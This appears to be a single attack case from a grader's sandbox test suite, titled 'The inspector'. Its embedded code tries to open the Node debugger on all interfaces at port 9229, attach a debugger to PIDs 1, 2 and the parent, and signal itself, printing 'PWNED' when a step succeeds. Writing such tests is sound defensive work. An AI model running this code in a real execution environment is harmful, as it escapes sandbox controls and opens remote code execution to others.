import { type Attack, modelSource } from '#grader/attack/attack.ts'

export const attack: Attack = {
  number: 27,
  title: 'The inspector',
  intent: 'Open a debugger port, or debug another process.',
  kind: 'model',
  verdicts: ['scored', 'runtime_error'],
  source: modelSource({
    buildModel: `const own = (globalThis as any).process
  try { node('inspector').open(9229, '0.0.0.0'); if (node('inspector').url()) console.log('PWNED inspector at ' + node('inspector').url()) } catch {}
  for (const pid of [1, own.ppid, 2]) try { own._debugProcess(pid); console.log('PWNED debugged ' + pid) } catch {}
  try { own.kill(own.pid, 'SIGUSR1'); console.log('PWNED signalled itself') } catch {}`,
  }),
}
